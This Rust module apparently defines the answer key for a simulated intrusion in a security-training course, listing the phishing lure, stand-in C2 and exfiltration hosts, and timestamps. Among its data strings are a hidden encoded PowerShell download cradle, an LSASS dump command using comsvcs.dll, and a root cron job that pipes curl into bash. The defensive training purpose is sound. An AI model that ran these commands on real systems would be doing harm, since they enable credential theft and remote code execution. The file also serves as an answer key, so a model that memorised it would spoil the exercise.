//! The planted intrusion's ground truth: who, where, what and when.
//!
//! Tests and the training course's check cells compare a trainee's findings with
//! these facts; training notebooks must not print them.

use chrono::{DateTime, Datelike, Duration, Utc, Weekday};

use super::SampleOptions;
use super::encode::powershell_encoded;
use super::org::{Org, PHISHED_USER};

/// The phishing e-mail's sender.
pub(crate) const PHISHING_SENDER: &str = "accounts@kestrel-billing.com";
/// The C2 domain the PowerShell cradle and the cron job fetch from.
pub(crate) const C2_DOMAIN: &str = "cdn.kestrelsync.net";
/// The C2 server's address.
pub(crate) const C2_IP: &str = "185.220.214.37";
/// The domain the stolen data is uploaded to.
pub(crate) const EXFIL_DOMAIN: &str = "store.quietbarn.io";
/// The exfiltration server's address (not in threat intelligence: found by rarity).
pub(crate) const EXFIL_IP: &str = "91.243.118.29";
/// The attacker's VPS that signs in to the cloud with the stolen admin account.
pub(crate) const ATTACKER_IP: &str = "45.147.230.12";

/// When each step of the intrusion happened (UTC).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StoryTimes {
    /// Helpdesk admin RDPs to the victim's workstation (leaves credentials in LSASS).
    pub helpdesk_rdp: DateTime<Utc>,
    /// The victim opens the attachment (WINWORD.EXE starts from OUTLOOK.EXE).
    pub phish_opened: DateTime<Utc>,
    /// The encoded PowerShell starts.
    pub powershell: DateTime<Utc>,
    /// The DNS lookup of the C2 domain.
    pub c2_dns: DateTime<Utc>,
    /// The first connection to the C2 address.
    pub c2_first_connection: DateTime<Utc>,
    /// Discovery commands (whoami, net group).
    pub discovery: DateTime<Utc>,
    /// LSASS is dumped with comsvcs.dll.
    pub credential_dump: DateTime<Utc>,
    /// The first failed logon (4625) against the file server.
    pub lateral_failures: DateTime<Utc>,
    /// The stolen admin account logs on to the file server (4624 type 3).
    pub lateral_logon: DateTime<Utc>,
    /// SSH login to the Linux host (sshd Accepted password).
    pub linux_logon: DateTime<Utc>,
    /// The cron persistence command runs.
    pub persistence: DateTime<Utc>,
    /// The stolen admin account signs in to Azure from abroad.
    pub signin_abroad: DateTime<Utc>,
    /// Data is archived on the file server.
    pub staging: DateTime<Utc>,
    /// The DNS lookup of the exfiltration domain.
    pub exfil_dns: DateTime<Utc>,
    /// The large upload starts.
    pub exfil_transfer: DateTime<Utc>,
}

/// The ground truth of the planted intrusion for given options.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlantedStory {
    /// The organisation's e-mail domain.
    pub org_domain: String,
    /// The Active Directory NetBIOS domain.
    pub ad_domain: String,
    /// Sender of the phishing e-mail.
    pub phishing_sender: String,
    /// Subject of the phishing e-mail.
    pub phishing_subject: String,
    /// File name of the macro-enabled attachment.
    pub attachment: String,
    /// The user who opened it (sAMAccountName).
    pub phished_account: String,
    /// That user's UPN.
    pub phished_upn: String,
    /// The first compromised host (short name).
    pub patient_zero_host: String,
    /// Its IP address.
    pub patient_zero_ip: String,
    /// The full PowerShell command line.
    pub powershell_command_line: String,
    /// The `-enc` payload (base64 of UTF-16LE).
    pub encoded_command: String,
    /// What the payload decodes to (a download cradle).
    pub decoded_command: String,
    /// The URL the cradle downloads from.
    pub c2_url: String,
    /// The C2 domain.
    pub c2_domain: String,
    /// The C2 IP address.
    pub c2_ip: String,
    /// The credential-dumping command line.
    pub credential_dump_command: String,
    /// The stolen admin account used for lateral movement (sAMAccountName).
    pub compromised_account: String,
    /// Its UPN.
    pub compromised_upn: String,
    /// The Windows server the attacker moved to.
    pub lateral_target_host: String,
    /// Its IP address.
    pub lateral_target_ip: String,
    /// The Linux host where persistence was planted.
    pub linux_host: String,
    /// Its IP address.
    pub linux_ip: String,
    /// The shell command that plants the cron job.
    pub persistence_command: String,
    /// The cron entry it adds.
    pub cron_entry: String,
    /// The attacker's address in the cloud sign-in.
    pub attacker_ip: String,
    /// Its country code (unusual for this organisation).
    pub attacker_country: String,
    /// The archive staged for exfiltration.
    pub staged_archive: String,
    /// The exfiltration domain.
    pub exfil_domain: String,
    /// The exfiltration IP address.
    pub exfil_ip: String,
    /// Bytes uploaded.
    pub exfil_bytes: i64,
    /// When each step happened.
    pub times: StoryTimes,
}

/// The first workday near the middle of the window (the intrusion day's midnight).
fn intrusion_day(start: DateTime<Utc>, days: u32) -> DateTime<Utc> {
    // Day 2 of a week starting on Monday is a Wednesday.
    let midpoint = i64::from(days.saturating_sub(2) / 2);
    let is_workday = |d: DateTime<Utc>| !matches!(d.weekday(), Weekday::Sat | Weekday::Sun);
    let candidates = (midpoint..i64::from(days)).chain((0..midpoint).rev());
    for offset in candidates {
        let day = start + Duration::days(offset);
        if is_workday(day) {
            return day;
        }
    }
    start
}

/// The planted story for these options (names are fixed; times follow `end` and `days`).
pub fn story(options: &SampleOptions) -> PlantedStory {
    let org = Org::new();
    let start = options.start();
    let day = intrusion_day(start, options.days);
    let at = |h: i64, m: i64, s: i64, ms: i64| {
        day + Duration::hours(h)
            + Duration::minutes(m)
            + Duration::seconds(s)
            + Duration::milliseconds(ms)
    };
    let victim = &org.accounts[PHISHED_USER];
    let admin = &org.accounts[org.account("adm-treyes")];
    let ws = &org.hosts[org.host("WS-014")];
    let fs = &org.hosts[org.host("SRV-FS01")];
    let linux = &org.hosts[org.host("lnx-build01")];
    let c2_url = format!("http://{C2_DOMAIN}/wp/update.ps1");
    let decoded = format!("IEX (New-Object Net.WebClient).DownloadString('{c2_url}')");
    let encoded = powershell_encoded(&decoded);
    let cron_entry = format!("*/5 * * * * curl -s http://{C2_DOMAIN}/x.sh | bash");
    PlantedStory {
        org_domain: super::org::UPN_SUFFIX.into(),
        ad_domain: super::org::AD_DOMAIN.into(),
        phishing_sender: PHISHING_SENDER.into(),
        phishing_subject: "Overdue invoice INV-4471 - final reminder".into(),
        attachment: "Invoice_Q3_4471.docm".into(),
        phished_account: victim.sam.clone(),
        phished_upn: victim.upn.clone(),
        patient_zero_host: ws.name.clone(),
        patient_zero_ip: ws.ip.clone(),
        powershell_command_line: format!(
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -enc {encoded}"
        ),
        encoded_command: encoded,
        decoded_command: decoded,
        c2_url,
        c2_domain: C2_DOMAIN.into(),
        c2_ip: C2_IP.into(),
        credential_dump_command: format!(
            "C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {} C:\\Users\\Public\\Documents\\wct4471.tmp full",
            super::world::LSASS_PID
        ),
        compromised_account: admin.sam.clone(),
        compromised_upn: admin.upn.clone(),
        lateral_target_host: fs.name.clone(),
        lateral_target_ip: fs.ip.clone(),
        linux_host: linux.name.clone(),
        linux_ip: linux.ip.clone(),
        persistence_command: format!("echo '{cron_entry}' >> /var/spool/cron/crontabs/root"),
        cron_entry,
        attacker_ip: ATTACKER_IP.into(),
        attacker_country: "RO".into(),
        staged_archive: "C:\\ProgramData\\Microsoft\\Crypto\\fin_q3.7z".into(),
        exfil_domain: EXFIL_DOMAIN.into(),
        exfil_ip: EXFIL_IP.into(),
        exfil_bytes: 734_003_200,
        times: StoryTimes {
            helpdesk_rdp: at(8, 47, 12, 402),
            phish_opened: at(9, 14, 31, 118),
            powershell: at(9, 14, 52, 640),
            c2_dns: at(9, 14, 53, 12),
            c2_first_connection: at(9, 14, 53, 207),
            discovery: at(9, 38, 5, 331),
            credential_dump: at(9, 41, 17, 905),
            lateral_failures: at(10, 27, 40, 220),
            lateral_logon: at(10, 31, 2, 514),
            linux_logon: at(10, 52, 31, 77),
            persistence: at(10, 54, 40, 612),
            signin_abroad: at(11, 20, 15, 0),
            staging: at(13, 2, 11, 450),
            exfil_dns: at(13, 21, 9, 733),
            exfil_transfer: at(13, 21, 10, 91),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    #[test]
    fn intrusion_lands_on_a_workday_inside_the_window() {
        let monday = Utc.with_ymd_and_hms(2026, 10, 26, 0, 0, 0).unwrap();
        assert_eq!(intrusion_day(monday, 7).weekday(), Weekday::Wed);
        let saturday = Utc.with_ymd_and_hms(2026, 10, 31, 0, 0, 0).unwrap();
        assert_eq!(intrusion_day(saturday, 3).weekday(), Weekday::Mon);
        assert_eq!(
            intrusion_day(saturday, 1),
            saturday,
            "no workday: first day"
        );
        let s = story(&SampleOptions::default());
        assert!(s.times.phish_opened < s.times.powershell);
        assert!(s.times.c2_dns < s.times.c2_first_connection);
        assert!(s.times.exfil_dns < s.times.exfil_transfer);
    }
}
